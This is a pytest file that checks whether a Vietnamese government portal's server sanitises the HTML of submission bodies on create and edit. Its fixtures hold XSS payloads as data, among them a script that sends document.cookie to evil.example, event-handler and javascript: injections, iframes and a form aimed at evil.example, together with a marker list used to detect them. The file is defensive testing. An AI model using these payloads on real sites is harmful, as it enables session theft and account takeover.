"""Submission bodies are sanitised by the server with the app's own allow-list (clean_html).

The server never trusts the client: whatever HTML arrives on create or PATCH, what is stored,
served and kept in the revision history is the structure the portal publishes, nothing active.
"""

from __future__ import annotations

from queue_support import Api

HOSTILE = (
    '<h2>Kết quả</h2><p onclick="steal()">Đoạn <b>đậm</b> và <a href="https://so.gov.vn/tin?a=1">'
    'liên kết</a>.</p><script>fetch("https://evil.example/?c=" + document.cookie)</script>'
    '<img src="x" onerror="alert(1)"><a href="javascript:alert(2)">bấm</a>'
    '<iframe src="https://evil.example/frame"></iframe>'
    '<ul><li>một</li><li>hai</li></ul>'
    '<table><tr><th>Đơn vị</th><td colspan="2">Sở Tư pháp</td></tr></table>'
    '<img src="attachment:' + "ab" * 32 + '" alt="Ảnh hội nghị" width="480">'
    '<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="nhúng"></p>'
)
# What the app's clean_html keeps of HOSTILE: headings, paragraphs, emphasis, http(s) links,
# lists, tables and attachment: images; no scripts, handlers, javascript: or data: URLs, frames.
CLEAN = (
    '<h2>Kết quả</h2><p>Đoạn <b>đậm</b> và <a href="https://so.gov.vn/tin?a=1">liên kết</a>.</p>'
    '<img src="x"><a>bấm</a>'
    '<ul><li>một</li><li>hai</li></ul>'
    '<table><tbody><tr><th>Đơn vị</th><td colspan="2">Sở Tư pháp</td></tr></tbody></table>'
    '<img src="attachment:' + "ab" * 32 + '" alt="Ảnh hội nghị" width="480">'
    '<p><img alt="nhúng"></p>'
)
ACTIVE = ("<script", "onerror", "onclick", "javascript:", "<iframe", "evil.example", "data:")


def assert_inert(html: str) -> None:
    lowered = html.lower()
    assert not [marker for marker in ACTIVE if marker in lowered], html


def test_create_stores_and_serves_the_cleaned_body(api: Api) -> None:
    reply = api.submit(key="hostile-body-0001", body_html=HOSTILE)
    assert reply.status_code == 201, reply.text
    assert reply.json()["body_html"] == CLEAN
    path = f"/api/v1/submissions/{reply.json()['id']}"
    for user in ("collab", "secretary"):
        assert api.call("GET", path, user).json()["body_html"] == CLEAN
    assert api.call("GET", f"{path}/revisions/1", "secretary").json()["body_html"] == CLEAN
    listed = api.call("GET", "/api/v1/submissions", "secretary").json()["items"]
    assert [item["body_html"] for item in listed] == [CLEAN]


def test_patch_is_cleaned_too(api: Api) -> None:
    item = api.submit(key="hostile-body-0002").json()
    path = f"/api/v1/submissions/{item['id']}"
    edited = api.call("PATCH", path, "collab", json={"body_html": HOSTILE},
                      headers={"If-Match": "1"})
    assert edited.status_code == 200, edited.text
    assert edited.json()["body_html"] == CLEAN
    assert api.call("GET", f"{path}/revisions/2", "secretary").json()["body_html"] == CLEAN
    # An edit that leaves the body alone keeps it clean (the stored body is not re-dirtied).
    retitled = api.call("PATCH", path, "collab", json={"title": "Tiêu đề mới của bài"},
                        headers={"If-Match": "2"})
    assert retitled.status_code == 200 and retitled.json()["body_html"] == CLEAN


def test_each_kind_of_active_content_is_removed(api: Api) -> None:
    bodies = [
        "<p>a</p><script>alert(1)</script>",
        '<p>b</p><img src="attachment:00" onerror="alert(1)">',
        '<p>c <a href="javascript:alert(1)">x</a> <a href="JaVaScRiPt:alert(1)">y</a></p>',
        '<p>d</p><iframe src="https://evil.example/"></iframe>',
        '<p style="background:url(javascript:alert(1))" onmouseover="x()">e</p>',
        '<svg onload="alert(1)"><script>alert(1)</script></svg><p>f</p>',
        '<object data="https://evil.example/x.swf"></object><embed src="a.swf"><p>g</p>',
        '<form action="https://evil.example/"><input name="p"></form><p>h</p>',
        '<p>i</p><!-- <script>alert(1)</script> --><style>p{}</style>',
    ]
    for index, body in enumerate(bodies):
        reply = api.submit(key=f"active-content-{index:04d}", body_html=body)
        assert reply.status_code == 201, (body, reply.text)
        stored = reply.json()["body_html"]
        assert_inert(stored)
        assert "<style" not in stored and "<form" not in stored and "<input" not in stored
        assert stored.startswith("<p>") or "<p>" in stored, stored


def test_legitimate_structure_survives_unchanged(api: Api) -> None:
    body = ('<h1>Một</h1><h3>Ba</h3><p>Chữ <strong>đậm</strong>, <em>nghiêng</em>, <u>gạch</u>.'
            '</p><ol start="3"><li>ba</li></ol><blockquote>Trích dẫn</blockquote>'
            '<figure><img src="attachment:' + "cd" * 32 + '" alt="Ảnh"><figcaption>Chú thích'
            '</figcaption></figure><p><a href="mailto:banbientap@so.gov.vn">thư</a></p>')
    reply = api.submit(key="structure-0001", body_html=body)
    assert reply.status_code == 201, reply.text
    assert reply.json()["body_html"] == body
